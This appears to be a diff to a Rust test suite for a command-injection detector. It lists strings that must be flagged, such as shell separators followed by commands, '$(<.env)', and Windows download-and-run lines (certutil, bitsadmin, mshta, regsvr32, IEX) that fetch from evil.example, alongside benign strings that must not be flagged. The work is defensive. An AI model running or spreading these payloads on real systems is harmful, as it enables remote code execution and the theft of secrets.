@@ -223,3 +223,89 @@ fn finds_what_a_further_decoding_hides_in_values_of_any_length() {
         }
     }
 }
+
+#[test]
+fn finds_commands_of_systems_and_what_a_line_of_a_shell_runs_otherwise() {
+    assert_found(
+        Class::Command,
+        &[
+            "7;systemctl stop x",
+            "7;dmesg",
+            "7;lsblk",
+            "7|iex",
+            "7;Get-ChildItem",
+            "7;Start-Process calc",
+            "7;command id",
+            "7;eval id",
+            "7;for i in 1 2;do id;done",
+            "7;if true;then cat /etc/hosts;fi",
+            "7;$0 -c id",
+            "7;${SHELL} -c id",
+            "7;a=id;$a",
+            "7;a=cat;$a /etc/hosts",
+            "7;/usr/bin/who?mi",
+            "7;/usr/bin/i[d]",
+            "7;./x",
+            "7|/tmp/x",
+            "$(<.env)",
+            "`whoami`.evil.example",
+        ],
+    );
+    for value in [
+        "first wash it; then sort the rest",
+        "what else is there to do; then",
+        "a word of command; the command line",
+        "if (a) b();else sort(c)",
+        "$a=1;$b",
+        "price=5; $price",
+        "for f in *.txt; do echo $f; done",
+        "s|./a|b|",
+        "a;/b*/c",
+        "; Get-together of friends",
+        "$(<div>)",
+        "=IF(A1>5;\"yes\";\"no\")",
+        "1;\"date\";\"time\"",
+        "Do it; Else; Eval",
+        "`python`.",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
+
+#[test]
+fn finds_command_lines_of_windows_and_calls_that_run_what_they_decode() {
+    assert_found(
+        Class::Command,
+        &[
+            "certutil -urlcache -f http://evil.example/a a",
+            "bitsadmin /transfer a http://evil.example/a c:\\a",
+            "mshta http://evil.example/a.hta",
+            "regsvr32 /s /i:http://evil.example/a.sct scrobj.dll",
+            "wmic process call create calc",
+            "schtasks /create /tn a /tr calc",
+            "msiexec /q /i http://evil.example/a.msi",
+            "reg query HKLM\\Software",
+            "cmd /k calc",
+            "pwsh -c id",
+            "ruby -rsocket -e 'exit'",
+            "IEX(iwr http://evil.example)",
+            "eval(base64_decode('aWQ='))",
+            "exec(\"import os\")",
+            "call_user_func('system','id')",
+            "System.Diagnostics.Process.Start(\"cmd\")",
+        ],
+    );
+    for value in [
+        "certutil by hand",
+        "Node and PHP in one project",
+        "Ruby - a language",
+        "reg. office, hkust",
+        "wmic was removed in the process",
+        "mshta",
+        "call_user_func('render', $a)",
+        "eval(code)",
+        "process.start()",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
